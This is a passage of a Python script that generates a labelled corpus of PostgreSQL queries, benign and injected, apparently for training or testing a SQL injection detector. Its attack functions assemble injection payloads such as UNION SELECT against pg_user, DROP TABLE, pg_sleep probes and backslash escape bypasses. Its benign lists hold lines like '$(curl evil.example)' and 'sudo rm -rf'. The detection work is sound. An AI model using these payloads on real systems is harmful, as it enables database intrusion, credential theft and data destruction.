# Benign inputs (fresh values)
# ---------------------------------------------------------------------------
BENIGN = {
    "input_apostrophe_names": ["Seán O'Casey", "D'Angelo", "O'Shaughnessy-Brown", "Ngũgĩ wa Thiong'o", "Rock 'n' Roll Café", "Lu'au Supplies",
                               "Chiara D'Alessandro", "L'Oréal Paris", "M'Baye", "Fisherman's Wharf", "'s-Hertogenbosch", "O''Brien (typo)"],
    "input_sql_words": ["Select Comfort mattress", "Union Pacific", "drop shipping", "Order #5512 delayed", "insert coin", "Table Mountain",
                        "Update your profile", "where's my parcel", "Exec Chef", "from scratch", "Create Music Group", "Grant Thornton",
                        "or best offer", "and/or", "Null Island", "Delete Me Inc.", "Sleep Number", "Benchmark Capital", "Having fun",
                        "waitfor it", "case study: select & drop"],
    "input_punctuation": ["x--y", "/*", "*/", "a;b;c", "#hashtag", "100%", "_under_", "[brackets]", "<tag>", "!!!", "a\\nb", "C:\\Users\\me",
                          "semi;", "'", "''", "\"", "``", "$$", "$tpl$", "@@version", "1/0", "=", "<>", "a||b", "::", "{}"],
    "input_url_email": ["alice@example.org", "https://cdn.example.com/img.png?w=100&h=50", "mailto:bob@example.net", "http://localhost:8080/api;v=2",
                        "ann.o'leary@example.ie", "https://example.com/?q=1%27%20OR%201%3D1", "file:///tmp/x.sql", "postgres://u:p@db.example:5432/app",
                        "user.name+tag@sub.example.co.uk", "https://example.org/wiki/Robert'); DROP TABLE Students;--"],
    "input_json_text": ['{"id": 7, "tags": ["a", "b"]}', '{"msg": "it\'s fine"}', '[]', '{"q": "SELECT 1; DROP TABLE t"}', '{"a": {"b": {"c": null}}}',
                        '{"price": 12.50, "currency": "EUR"}', '{"where": "1=1", "or": true}', '"\\u0027"', '{"k": "--"}'],
    "input_unicode": ["Kraków", "Ærøskøbing", "東京都", "Ελλάδα", "café crème", "עברית", "🚚 shipped", "Çağlayan", "ǅemal", "ß-strasse",
                      "مرحبا", "नमस्ते", "Ünïcödé", "\u2019apostrophe\u2019", "e\u0301clair"],
    "input_plain": ["bravo", "Lisbon", "blue widget", "spring promo", "kmiller", "approved", "Q4 plan", "ZX-81", "good morning", "us-west-2", "night shift"],
    "input_long_text": [
        "Patient reports mild headache after the update; no nausea. Advised to drop caffeine, select a quiet room and rest. Follow up in one week or sooner if symptoms worsen. " * 3,
        ("Release notes: the union of both feature sets is now available; see the table below for the order of rollout. " * 7).strip(),
        "lorem ipsum dolor sit amet " * 60,
        ("Line one of a long message.\nLine two, with a 'quote'.\n" * 20),
    ],
    "input_whitespace": ["  padded  ", "two\nlines", "tab\tseparated", "\ttabbed", "ends with space ", "windows\r\nnewline", " ", "\f"],
    "input_code_snippet": ["SELECT id FROM t WHERE x = 'y';", "sudo rm -rf /tmp/cache", "if (a && b) { return; }", "<script>alert(1)</script>",
                           "a := b || c; -- plpgsql", "DELETE FROM sessions;", "1' AND 1=1 --", "UNION SELECT password FROM users",
                           "'; SHUTDOWN; --", "{{7*7}}", "$(curl evil.example)"],
    "input_regex": ["^\\d{5}(-\\d{4})?$", "(?:foo|bar)+", "[^'\"]+", "^.*$", "\\s*;\\s*", "x{1,3}", "^(a|b)*$", "\\w+@\\w+\\.com"],
    "input_numeric_string": ["42", "0042", "3.14", "-7", "1e10", "  8 ", "١٢٣", "0x1F", "NaN", "Infinity"],
}
NUM_BENIGN = ["0", "2", "9", "15", "48", "200", "999", "4096", "86400", "1.5", "0.25", "2e3", "007", "9223372036854775807", ".5", "12.345"]
NUMLIST_BENIGN = ["3", "4, 5, 6", "11,12,13", "99", "8, 16", "201,202,203,204", "77,  78", "1,2"]
COL_BENIGN = ["id", "sent_at", "sender_id", "sent_at DESC", "id ASC", "\"Display Name\"", "sender_id desc NULLS FIRST", "body asc"]
DIR_BENIGN = ["ASC", "DESC", "asc", "desc", "Asc"]
IDENT_BENIGN = ["revenue_eur", "Active Users", "select", "group", "from", "x\"y", "drop schema", "semi;colon", "a--b", "Ärger", "union all", "it's", "tenant_42", "order by 1"]
DOLLAR_BENIGN = ["<footer>© 2025 Example</footer>", "SELECT now();", "It's $5 — or $$?", "<p>{{ year }} 'quoted'</p>", "-- not a comment /* nor this */",
                 "$tp$ almost a tag", "DROP TABLE x; -- in a template", "multi\nline\ttext", "$1 and $2"]
DOLLAR_TAGS = {}


def benign_pool(t, slot):
    if slot in t["vals"]:
        return t["vals"][slot]
    return ("input_plain", BENIGN["input_plain"])


def escape(kind, v):
    if kind == "str":
        return v.replace("'", "''")
    if kind == "estr":
        return v.replace("\\", "\\\\").replace("'", "''")
    if kind == "ident":
        return v.replace('"', '""')
    return v


# ---------------------------------------------------------------------------
# Filling and labelling
# ---------------------------------------------------------------------------
def render(t, contents):
    """contents: slot -> text placed verbatim.  Returns sql, checks."""
    sql, checks, last = "", [], 0
    src = t["sql"]
    for m in SLOT_RE.finditer(src):
        lit = src[last:m.start()].replace("{{", "{").replace("}}", "}")
        lit_start = len(sql)
        sql += lit
        name, kind = m.group(1), m.group(2)
        a = len(sql)
        sql += contents[name]
        b = len(sql)
        open_pos, close_len = None, 0
        nxt = src[m.end():].replace("{{", "{").replace("}}", "}")
        if kind in ("str", "estr", "ident"):
            q = '"' if kind == "ident" else "'"
            open_pos = lit_start + lit.rfind(q) - (1 if kind == "estr" else 0)
            close_len = nxt.index(q) + 1
        elif kind == "dollar":
            tag = re.search(r"\$[A-Za-z_]*\$$", lit).group(0)
            open_pos, close_len = a - len(tag), len(tag)
            assert nxt.startswith(tag)
        checks.append((kind, a, b, open_pos, close_len))
        last = m.end()
    sql += src[last:].replace("{{", "{").replace("}}", "}")
    return sql, checks


def label_ok(sql, checks):
    toks = lex(sql)
    return all(slot_ok(sql, toks, k, a, b, o, c) for k, a, b, o, c in checks)


def load_other_sql():
    seen = set()
    for f in OTHER_CORPORA:
        p = os.path.join(HERE, f)
        if os.path.exists(p):
            with gzip.open(p, "rt", encoding="utf-8") as fh:
                for line in fh:
                    seen.add(json.loads(line)["sql"])
    return seen


OTHER_SQL = load_other_sql()
ROWS = []
SEEN = set()
SKIPPED_OTHER = collections.Counter()


def emit(sql, label, family, template, inputs, variant, attack_input=None):
    if sql in SEEN:
        return False
    if sql in OTHER_SQL:
        SKIPPED_OTHER[family] += 1
        return False
    SEEN.add(sql)
    ROWS.append(dict(sql=sql, label=label, family=family, template=template,
                     input=attack_input if attack_input is not None else (inputs[0] if len(inputs) == 1 else None),
                     inputs=inputs, variant=variant))
    return True


def default_fills(t, skip):
    vals = {}
    for name, kind in t["slots"]:
        if name == skip:
            continue
        if kind == "num":
            vals[name] = R.choice(["2", "10", "25", "4", "50"])
        elif kind == "numlist":
            vals[name] = R.choice(NUMLIST_BENIGN)
        elif kind == "col":
            vals[name] = R.choice(t["vals"][name][1] if name in t["vals"] else COL_BENIGN)
        elif kind == "dir":
            vals[name] = R.choice(DIR_BENIGN)
        elif kind == "ident":
            vals[name] = R.choice(IDENT_BENIGN[:3])
        elif kind == "dollar":
            vals[name] = R.choice(DOLLAR_BENIGN[:3])
        else:
            vals[name] = R.choice(benign_pool(t, name)[1])
    return vals


def fill(t, slot, text):
    """Put text verbatim in slot, other slots benign and escaped."""
    kinds = dict(t["slots"])
    others = default_fills(t, slot)
    contents = {n: escape(kinds[n], v) for n, v in others.items()}
    contents[slot] = text
    sql, checks = render(t, contents)
    return sql, checks, others


def attack_row(t, slot, raw, family, variant):
    """Unescaped attack input: attack if it leaves its slot, else contained."""
    sql, checks, others = fill(t, slot, raw)
    inputs = [raw if n == slot else others[n] for n, _ in t["slots"]]
    if label_ok(sql, checks):
        return emit(sql, "benign", "contained_attack_string", t["name"], inputs, "contained:" + variant, raw) and "contained"
    return emit(sql, "attack", family, t["name"], inputs, variant, raw) and "attack"


def benign_row(t, slot, raw, family, variant):
    kind = dict(t["slots"])[slot]
    sql, checks, others = fill(t, slot, escape(kind, raw))
    inputs = [raw if n == slot else others[n] for n, _ in t["slots"]]
    if not label_ok(sql, checks):
        raise SystemExit(f"benign input leaves its slot: {t['name']} {raw!r}\n{sql}")
    return emit(sql, "benign", family, t["name"], inputs, variant, raw)


def hand_tail(t, slot, kind, close):
    r = R.random()
    if kind in ("num", "numlist", "col", "dir") and r < 0.5:
        return ""
    if close == close_of(t, slot) and reopen_of(t, slot) and r < 0.7:
        return reopen_of(t, slot)
    return " " + R.choice(["--", "-- ", "-- -", "--+", "/*", ";--", "-- ok", "; -- '"])


def hand_attack(t, slot, kind, family, core, tag):
    if kind in ("num", "numlist"):
        pre = R.choice(["1", "0", "7", "-1", "42", "3"])
        c = close_of(t, slot)
        close = c if (c and "'" not in c and '"' not in c and R.random() < 0.6) else ""
    elif kind == "col":
        pre, close = R.choice(["id", "sent_at", "region", "2"]), ""
    elif kind == "dir":
        pre, close = R.choice(["ASC", "DESC", "desc"]), ""
    elif kind == "dollar":
        pre = R.choice(["", "hi", "<b>x</b>"])
        close = close_of(t, slot) if R.random() < 0.7 else R.choice(["$$", "'", "$tp$"])
    elif kind == "ident":
        pre = R.choice(["revenue_eur", "x", "public", ""])
        close = '"' if R.random() < 0.85 else R.choice(["'", '")'])
    else:
        pre = R.choice(["x", "admin", "1", "", "bob", "q9"]) if not t["like"] else R.choice(["ab", "", "Sm", "20"])
        close = close_of(t, slot) if R.random() < 0.8 else R.choice(WRONG_CLOSES)
    sep = "" if core.startswith(";") else R.choice([" ", " ", " ", "  ", "\t"])
    tail = hand_tail(t, slot, kind, close)
    if core.rstrip().endswith(("$", "'")) and tail.startswith((" AND", " ||", ", ")):
        tail = R.choice([" --", ""])
    if kind == "dollar":
        if core.startswith(";"):
            raw = f"{pre}{close}){core}" + R.choice([" --", "; SELECT $tpl$", " -- $tpl$"])
        else:
            raw = f"{pre}{close} || (SELECT ''::text WHERE true {core})) --"
    elif kind == "ident" and not core.startswith(";"):
        lead = R.choice(["FROM pg_user", "FROM hr.staff_logins", "AS a, version() AS b FROM pg_roles"])
        raw = f"{pre}{close} {lead} {core} --"
    else:
        raw = f"{pre}{close}{sep}{core}{tail}"
    return attack_row(t, slot, raw, family, f"hand:{family}:{tag}|close={close or 'none'}")


def backslash_attacks(t, slot, kind):
    """The application escapes wrongly: \\' in a standard string, or doubles
    quotes but not backslashes in E''."""
    if R.random() > 0.35 or kind not in ("str", "estr"):
        return
    core = R.choice(["OR 2>1--", "UNION SELECT usename, NULL FROM pg_user--", "; DROP TABLE iot.devices--", "AND 1=CAST(current_user AS int)--", "AND (SELECT 1 FROM pg_sleep(4))=1--"])
    if kind == "str":
        raw, spliced = "z' " + core, ("z' " + core).replace("'", "\\'")
    else:
        raw = "\\' " + core
        spliced = raw.replace("'", "''")
    sql, checks, others = fill(t, slot, spliced)
    inputs = [raw if n == slot else others[n] for n, _ in t["slots"]]
    if label_ok(sql, checks):
        emit(sql, "benign", "escaped_attack_string", t["name"], inputs, "escaped:backslash-style", raw)
    else:
        emit(sql, "attack", "escape_bypass_backslash", t["name"], inputs, "hand:escape_bypass_backslash:" + kind, raw)


# ---------------------------------------------------------------------------
# Complex benign statements (fx_*): {s} string and {w} word (escaped for
# their literal), {i} integer, {d} date, {tz} time zone.
# ---------------------------------------------------------------------------
COMPLEX = [
    # ORM output
    ("complex_orm_generated", "fx_django_prefetch", "SELECT \"hr_employee\".\"id\", \"hr_employee\".\"first_name\", \"hr_employee\".\"dept_id\" FROM \"hr_employee\" WHERE (\"hr_employee\".\"dept_id\" IN (SELECT U0.\"id\" FROM \"hr_department\" U0 WHERE U0.\"name\" = '{s}') AND NOT (\"hr_employee\".\"terminated\")) ORDER BY \"hr_employee\".\"last_name\" ASC"),
    ("complex_orm_generated", "fx_django_exists_subquery", "SELECT \"cms_page\".\"id\", EXISTS(SELECT 1 AS \"a\" FROM \"cms_revision\" U1 WHERE (U1.\"page_id\" = (\"cms_page\".\"id\") AND U1.\"author\" = '{s}') LIMIT 1) AS \"has_rev\" FROM \"cms_page\" WHERE \"cms_page\".\"site_id\" = {i}"),
    ("complex_orm_generated", "fx_sqlalchemy_joinedload", "SELECT orders.id AS orders_id, orders.total AS orders_total, customers_1.id AS customers_1_id, customers_1.name AS customers_1_name \nFROM orders LEFT OUTER JOIN customers AS customers_1 ON customers_1.id = orders.customer_id \nWHERE orders.status = '{w}' ORDER BY orders.id DESC \n LIMIT {i}"),
    ("complex_orm_generated", "fx_sqlalchemy_insert_many", "INSERT INTO audit_events (actor, action, detail) VALUES ('{s}', 'login', NULL), ('system', 'rotate', '{{\"keys\": 2}}'), ('{s}', 'logout', NULL) RETURNING audit_events.id"),
    ("complex_orm_generated", "fx_hibernate6_criteria", "select e1_0.id,e1_0.email,e1_0.hired_on from employee e1_0 join department d1_0 on d1_0.id=e1_0.department_id where d1_0.code=$1 and e1_0.hired_on>=$2 order by e1_0.hired_on desc fetch first $3 rows only"),
    ("complex_orm_generated", "fx_hibernate_update_version", "update shipment set status='{w}',version={i} where id=88123 and version={i}"),
    ("complex_orm_generated", "fx_rails_pluck", "SELECT \"players\".\"nickname\" FROM \"players\" INNER JOIN \"clans\" ON \"clans\".\"id\" = \"players\".\"clan_id\" WHERE \"clans\".\"tag\" = '{s}' AND \"players\".\"banned_at\" IS NULL LIMIT $1"),
    ("complex_orm_generated", "fx_rails_insert_all", "INSERT INTO \"readings\" (\"device_id\",\"value\",\"created_at\",\"updated_at\") VALUES ({i}, 21.5, '{d} 10:00:00', '{d} 10:00:00'), ({i}, 21.7, '{d} 10:05:00', '{d} 10:05:00') ON CONFLICT  DO NOTHING RETURNING \"id\""),
    ("complex_orm_generated", "fx_sequelize_findall", "SELECT \"Ticket\".\"id\", \"Ticket\".\"subject\", \"assignee\".\"id\" AS \"assignee.id\", \"assignee\".\"name\" AS \"assignee.name\" FROM \"Tickets\" AS \"Ticket\" LEFT OUTER JOIN \"Agents\" AS \"assignee\" ON \"Ticket\".\"assigneeId\" = \"assignee\".\"id\" WHERE \"Ticket\".\"status\" = '{w}' ORDER BY \"Ticket\".\"createdAt\" DESC LIMIT {i};"),
    ("complex_orm_generated", "fx_prisma_nested", "SELECT \"public\".\"Post\".\"id\", \"public\".\"Post\".\"title\" FROM \"public\".\"Post\" WHERE (\"public\".\"Post\".\"title\" ILIKE $1 AND \"public\".\"Post\".\"published\" = $2) ORDER BY \"public\".\"Post\".\"id\" ASC LIMIT $3 OFFSET $4"),
    ("complex_orm_generated", "fx_typeorm_upsert", "INSERT INTO \"device_state\"(\"deviceId\", \"state\", \"updatedAt\") VALUES ({i}, '{s}', DEFAULT) ON CONFLICT ( \"deviceId\" ) DO UPDATE SET \"state\" = EXCLUDED.\"state\", \"updatedAt\" = EXCLUDED.\"updatedAt\" RETURNING \"updatedAt\""),
    ("complex_orm_generated", "fx_doctrine_dql", "SELECT t0.id AS id_1, t0.title AS title_2, t0.created_at AS created_at_3 FROM article t0 WHERE t0.author_id = {i} AND t0.state IN ('draft', 'review') ORDER BY t0.created_at DESC LIMIT 20"),
    ("complex_orm_generated", "fx_ecto_preload", "SELECT m0.\"id\", m0.\"body\", m0.\"room_id\", m0.\"inserted_at\" FROM \"messages\" AS m0 WHERE (m0.\"room_id\" = ANY($1)) ORDER BY m0.\"room_id\""),
    ("complex_orm_generated", "fx_gorm_soft_delete", "UPDATE \"sessions\" SET \"deleted_at\"='{d} 12:00:00.000' WHERE user_id = {i} AND \"sessions\".\"deleted_at\" IS NULL"),
    ("complex_orm_generated", "fx_efcore_owned", "SELECT p.\"Id\", p.\"Name\", p.\"Address_City\", p.\"Address_Street\" FROM \"Patients\" AS p WHERE p.\"Address_City\" = '{s}' AND p.\"BirthDate\" < DATE '{d}'"),
    ("complex_orm_generated", "fx_diesel_returning", "INSERT INTO \"chat_rooms\" (\"name\", \"is_private\") VALUES ($1, $2) RETURNING \"chat_rooms\".\"id\", \"chat_rooms\".\"name\", \"chat_rooms\".\"is_private\""),
    ("complex_orm_introspection", "fx_sqlalchemy_has_table", "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace WHERE pg_catalog.pg_class.relname = '{w}' AND pg_catalog.pg_class.relkind = ANY (ARRAY['r', 'p', 'f', 'v', 'm']) AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) AND pg_catalog.pg_namespace.nspname != 'pg_catalog'"),
    ("complex_orm_introspection", "fx_rails_schema_columns", "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), a.attnotnull, a.atttypid, a.atttypmod, c.collname, col_description(a.attrelid, a.attnum) AS comment FROM pg_attribute a LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid AND a.attnum = d.adnum LEFT JOIN pg_type t ON a.atttypid = t.oid LEFT JOIN pg_collation c ON a.attcollation = c.oid AND a.attcollation <> t.typcollation WHERE a.attrelid = '\"{w}\"'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum"),
    ("complex_orm_introspection", "fx_jdbc_get_tables", "SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, c.relname AS TABLE_NAME, CASE n.nspname ~ '^pg_' OR n.nspname = 'information_schema' WHEN true THEN 'SYSTEM TABLE' ELSE 'TABLE' END AS TABLE_TYPE FROM pg_catalog.pg_namespace n, pg_catalog.pg_class c WHERE c.relnamespace = n.oid AND c.relkind IN ('r', 'p') AND c.relname LIKE '%' ORDER BY TABLE_TYPE, TABLE_SCHEM, TABLE_NAME"),
    # query builders
    ("complex_query_builder", "fx_knex_multi_where", "select \"id\", \"title\" from \"kb_articles\" where \"locale\" = '{w}' and (\"title\" ilike '%{s}%' or \"summary\" ilike '%{s}%') order by \"updated_at\" desc limit {i}"),
    ("complex_query_builder", "fx_jooq_window", "select \"t\".\"player_id\", rank() over (order by \"t\".\"score\" desc) as \"rk\" from \"public\".\"scores\" as \"t\" where \"t\".\"season\" = '{w}' fetch next {i} rows only"),
    ("complex_query_builder", "fx_squirrel_case", "SELECT id, CASE WHEN severity >= 4 THEN 'critical' WHEN severity >= 2 THEN 'warn' ELSE 'info' END AS level FROM iot_alerts WHERE site = '{s}' AND raised_at >= '{d}'"),
    ("complex_query_builder", "fx_builder_not_in_null", "SELECT * FROM coupons WHERE code NOT IN ('SPRING', 'SUMMER') AND (expires_at IS NULL OR expires_at > now()) AND owner = '{s}'"),
    ("complex_query_builder", "fx_builder_between_cast", "SELECT id, amount::numeric(12,2) FROM ledger WHERE booked_on BETWEEN '{d}'::date AND '{d}'::date + {i} AND account = '{w}'"),
    # CTE / windows
    ("complex_cte_window", "fx_cohort_retention", "WITH first_seen AS (SELECT user_id, min(date_trunc('week', seen_at)) AS cohort FROM app_events GROUP BY user_id), activity AS (SELECT e.user_id, f.cohort, date_trunc('week', e.seen_at) AS wk FROM app_events e JOIN first_seen f USING (user_id) WHERE e.seen_at >= '{d}') SELECT cohort, (wk - cohort) / 7 AS week_no, count(DISTINCT user_id) FROM activity GROUP BY 1, 2 ORDER BY 1, 2"),
    ("complex_cte_window", "fx_recursive_category_path", "WITH RECURSIVE path(id, name, trail) AS (SELECT id, name, name::text FROM categories WHERE parent_id IS NULL UNION ALL SELECT c.id, c.name, p.trail || ' > ' || c.name FROM categories c JOIN path p ON c.parent_id = p.id) SELECT * FROM path WHERE trail ILIKE '%{w}%' ORDER BY trail"),
    ("complex_cte_window", "fx_sessionize", "SELECT user_id, ts, sum(new_session) OVER (PARTITION BY user_id ORDER BY ts) AS session_no FROM (SELECT user_id, ts, CASE WHEN ts - lag(ts) OVER (PARTITION BY user_id ORDER BY ts) > interval '30 minutes' THEN 1 ELSE 0 END AS new_session FROM clicks WHERE day = '{d}') s"),
    ("complex_cte_window", "fx_percentile_latency", "SELECT endpoint, percentile_cont(0.5) WITHIN GROUP (ORDER BY ms) AS p50, percentile_cont(0.99) WITHIN GROUP (ORDER BY ms) AS p99, count(*) FILTER (WHERE status >= 500) AS errors FROM request_log WHERE at >= now() - interval '{i} minutes' GROUP BY endpoint ORDER BY p99 DESC"),
    ("complex_cte_window", "fx_materialized_cte", "WITH hot AS MATERIALIZED (SELECT sku FROM order_lines WHERE placed_at > now() - interval '1 day' GROUP BY sku HAVING count(*) > {i}) SELECT p.sku, p.name FROM products p JOIN hot USING (sku)"),
    ("complex_cte_window", "fx_rows_between_groups", "SELECT day, amount, sum(amount) OVER (ORDER BY day GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING EXCLUDE CURRENT ROW) AS neighbours FROM daily_totals WHERE store = '{s}'"),
    ("complex_cte_window", "fx_search_cycle", "WITH RECURSIVE g(src, dst) AS (SELECT src, dst FROM edges WHERE src = {i} UNION SELECT e.src, e.dst FROM edges e JOIN g ON e.src = g.dst) CYCLE src SET is_cycle USING path SELECT * FROM g WHERE NOT is_cycle"),
    ("complex_cte_window", "fx_lateral_top3", "SELECT d.name, t.* FROM departments d CROSS JOIN LATERAL (SELECT full_name, salary FROM staff s WHERE s.dept_id = d.id ORDER BY salary DESC FETCH FIRST 3 ROWS WITH TIES) t WHERE d.region = '{w}'"),
    # unions/reports
    ("complex_union_report", "fx_union_activity_feed", "(SELECT 'comment' AS kind, id, created_at FROM comments WHERE author = '{s}') UNION ALL (SELECT 'like', id, created_at FROM likes WHERE author = '{s}') ORDER BY created_at DESC LIMIT {i}"),
    ("complex_union_report", "fx_grouping_sets", "SELECT region, channel, sum(revenue) FROM sales_fact WHERE sold_on >= '{d}' GROUP BY GROUPING SETS ((region, channel), (region), ()) ORDER BY region NULLS LAST, channel NULLS LAST"),
    ("complex_union_report", "fx_cube_report", "SELECT coalesce(team, 'ALL') AS team, coalesce(kind, 'ALL') AS kind, count(*) FROM incidents WHERE opened_at >= '{d}' GROUP BY CUBE (team, kind)"),
    # builtin functions
    ("complex_builtin_funcs", "fx_jsonb_funcs", "SELECT jsonb_pretty(jsonb_build_object('name', '{s}', 'n', {i})), jsonb_path_exists('{{\"a\": [1, 2, 3]}}'::jsonb, '$.a[*] ? (@ > 2)'), '{{\"k\": \"v\"}}'::jsonb ? 'k'"),
    ("complex_builtin_funcs", "fx_crypto_funcs", "SELECT encode(digest('{s}', 'sha256'), 'hex'), encode(hmac('{w}', 'key', 'sha1'), 'base64'), gen_random_uuid(), md5('{s}')"),
    ("complex_builtin_funcs", "fx_range_funcs", "SELECT lower(r), upper(r), isempty(r), r @> {i} AS has_it FROM (SELECT int4range(1, {i} + 10, '[)') AS r) x"),
    ("complex_builtin_funcs", "fx_format_funcs", "SELECT format('Hello %s, you owe %s', '{s}', to_char({i}, 'FM999G999D00')), lpad('{w}', 12, '.'), concat_ws(' | ', 'a', NULL, '{w}')"),
    ("complex_builtin_funcs", "fx_datetime_zone", "SELECT now() AT TIME ZONE '{tz}', timezone('{tz}', timestamptz '{d} 12:00+00'), date_bin('15 minutes', timestamp '{d} 10:07', timestamp '2000-01-01')"),
    ("complex_builtin_funcs", "fx_string_to_table", "SELECT ord, part FROM string_to_table('{w},b,c', ',') WITH ORDINALITY AS t(part, ord)"),
    ("complex_builtin_funcs", "fx_regexp_match", "SELECT regexp_match('{s}', '(\\w+)@(\\w+)'), regexp_count('{s}', '[aeiou]'), substring('{w}' from '^[a-z]+')"),
    ("complex_builtin_funcs", "fx_pg_size_catalog", "SELECT nspname, count(*) AS rels, pg_size_pretty(sum(pg_relation_size(c.oid))) FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE nspname NOT IN ('pg_catalog', 'information_schema') GROUP BY nspname ORDER BY 2 DESC LIMIT {i}"),
    # search
    ("complex_search_complex", "fx_fts_weighted", "SELECT id, ts_rank(setweight(to_tsvector('english', title), 'A') || setweight(to_tsvector('english', body), 'B'), websearch_to_tsquery('english', '{s}')) AS r FROM kb_articles ORDER BY r DESC LIMIT 10"),
    ("complex_search_complex", "fx_trgm_similarity", "SELECT name, similarity(name, '{s}') AS sim FROM cities WHERE name % '{s}' ORDER BY sim DESC, name LIMIT {i}"),
    ("complex_search_complex", "fx_like_escape_bang", "SELECT id FROM coupons WHERE code LIKE '50!%!_OFF%' ESCAPE '!' OR description ILIKE '%{w}%'"),
    # batch insert
    ("complex_batch_insert", "fx_insert_select_series", "INSERT INTO calendar (d, is_weekend) SELECT d::date, extract(isodow FROM d) IN (6, 7) FROM generate_series('{d}'::date, '{d}'::date + {i}, '1 day') AS s(d) ON CONFLICT (d) DO NOTHING"),
    ("complex_batch_insert", "fx_copyish_values", "INSERT INTO tags (slug, label) VALUES ('drop-ship', 'Drop ship'), ('{w}', '{s}'), ('select-fit', 'Select fit'), ('union-made', 'Union made')"),
    ("complex_batch_insert", "fx_update_case_batch", "UPDATE inventory SET qty = CASE sku WHEN 'A-1' THEN {i} WHEN 'B-2' THEN qty - 1 ELSE qty END WHERE sku IN ('A-1', 'B-2', '{w}')"),
    # DDL / migrations
    ("complex_ddl_migration", "fx_create_partitioned", "CREATE TABLE IF NOT EXISTS telemetry_{i} PARTITION OF telemetry FOR VALUES FROM ('{d}') TO ('{d}'::date + interval '1 month')"),
    ("complex_ddl_migration", "fx_generated_column", "ALTER TABLE products ADD COLUMN search_vec tsvector GENERATED ALWAYS AS (to_tsvector('simple', coalesce(name, '') || ' ' || coalesce(sku, ''))) STORED"),
    ("complex_ddl_migration", "fx_rls_policy", "CREATE POLICY tenant_isolation ON invoices USING (tenant_id = current_setting('app.tenant_id')::int) WITH CHECK (tenant_id = current_setting('app.tenant_id')::int)"),
    ("complex_ddl_migration", "fx_exclusion_constraint", "ALTER TABLE bookings ADD CONSTRAINT no_overlap EXCLUDE USING gist (room_id WITH =, during WITH &&)"),
    ("complex_ddl_migration", "fx_create_domain", "CREATE DOMAIN email_address AS text CHECK (VALUE ~* '^[^@\\s]+@[^@\\s]+$')"),
    ("complex_ddl_migration", "fx_comment_column", "COMMENT ON COLUMN hr.employees.salary IS 'Gross, in cents. Do not SELECT * from reports; use {s}'"),
    ("complex_ddl_migration", "fx_alter_default_privs", "ALTER DEFAULT PRIVILEGES IN SCHEMA analytics GRANT SELECT ON TABLES TO bi_reader"),
    ("complex_ddl_migration", "fx_create_trigger", "CREATE TRIGGER trg_touch BEFORE UPDATE ON cms_pages FOR EACH ROW WHEN (OLD.* IS DISTINCT FROM NEW.*) EXECUTE FUNCTION touch_updated_at()"),
    ("complex_migration_script", "fx_knex_migration", "create table \"knex_migrations\" (\"id\" serial primary key, \"name\" varchar(255), \"batch\" integer, \"migration_time\" timestamptz);\ncreate table \"knex_migrations_lock\" (\"index\" serial primary key, \"is_locked\" integer);\ninsert into \"knex_migrations_lock\" (\"is_locked\") values (0)"),
    ("complex_migration_script", "fx_django_migration", "BEGIN;\n--\n-- Add field nickname to player\n--\nALTER TABLE \"game_player\" ADD COLUMN \"nickname\" varchar({i}) DEFAULT '{w}' NOT NULL;\nALTER TABLE \"game_player\" ALTER COLUMN \"nickname\" DROP DEFAULT;\nCOMMIT;"),
    ("complex_migration_script", "fx_goose_migration", "-- +goose Up\n-- +goose StatementBegin\nCREATE TABLE device_tokens (id bigserial PRIMARY KEY, device_id bigint NOT NULL, token text NOT NULL UNIQUE);\n-- +goose StatementEnd"),
    ("complex_migration_script", "fx_sqitch_deploy", "-- Deploy app:chat_rooms to pg\nBEGIN;\nCREATE TABLE chat.rooms (id serial PRIMARY KEY, title text NOT NULL, created_at timestamptz NOT NULL DEFAULT now());\nGRANT SELECT ON chat.rooms TO chat_reader;\nCOMMIT;"),
    # COPY
    ("complex_copy_stdin", "fx_copy_binary_stdin", "COPY iot.readings (sensor_uid, ts, temp_c) FROM STDIN (FORMAT binary)"),
    ("complex_copy_stdin", "fx_copy_freeze_csv", "COPY staging.patients FROM STDIN WITH (FORMAT csv, HEADER match, FREEZE false, ENCODING 'UTF8')"),
    ("complex_copy_stdin", "fx_copy_query_stdout", "COPY (SELECT number, total_cents FROM billing.invoices WHERE issued_on >= '{d}') TO STDOUT WITH (FORMAT csv, DELIMITER ';', FORCE_QUOTE (number))"),
    # function bodies
    ("complex_plpgsql_body", "fx_fn_audit_trigger", "CREATE OR REPLACE FUNCTION audit_row() RETURNS trigger LANGUAGE plpgsql AS $audit$\nBEGIN\n  INSERT INTO audit_log(tbl, op, row_data, at) VALUES (TG_TABLE_NAME, TG_OP, to_jsonb(NEW), now());\n  RETURN NEW;\nEND;\n$audit$"),
    ("complex_plpgsql_body", "fx_fn_sql_body_atomic", "CREATE FUNCTION order_total(p_id bigint) RETURNS numeric LANGUAGE sql STABLE BEGIN ATOMIC SELECT coalesce(sum(qty * price), 0) FROM order_lines WHERE order_id = p_id; END"),
    ("complex_plpgsql_body", "fx_do_grant_loop", "DO $grants$\nDECLARE r record;\nBEGIN\n  FOR r IN SELECT schema_name FROM information_schema.schemata WHERE schema_name LIKE 'tenant_%' LOOP\n    EXECUTE format('GRANT USAGE ON SCHEMA %I TO app_rw', r.schema_name);\n  END LOOP;\nEND\n$grants$"),
    ("complex_plpgsql_body", "fx_procedure_call", "CREATE OR REPLACE PROCEDURE archive_old(days int) LANGUAGE plpgsql AS $$\nBEGIN\n  DELETE FROM chat.messages WHERE sent_at < now() - make_interval(days => days);\n  COMMIT;\nEND $$"),
    ("complex_plpgsql_body", "fx_call_procedure", "CALL archive_old({i})"),
    ("complex_plpgsql_body", "fx_fn_returns_table", "CREATE OR REPLACE FUNCTION top_players(n int) RETURNS TABLE(player_id bigint, score int) LANGUAGE sql STABLE AS 'SELECT player_id, best_score FROM leaderboard ORDER BY best_score DESC LIMIT n'"),
    ("complex_plpgsql_body", "fx_do_raise_notice", "DO $$ BEGIN RAISE NOTICE 'migrating % rows for %', (SELECT count(*) FROM cms_pages), '{w}'; END $$"),
    # comments and hints
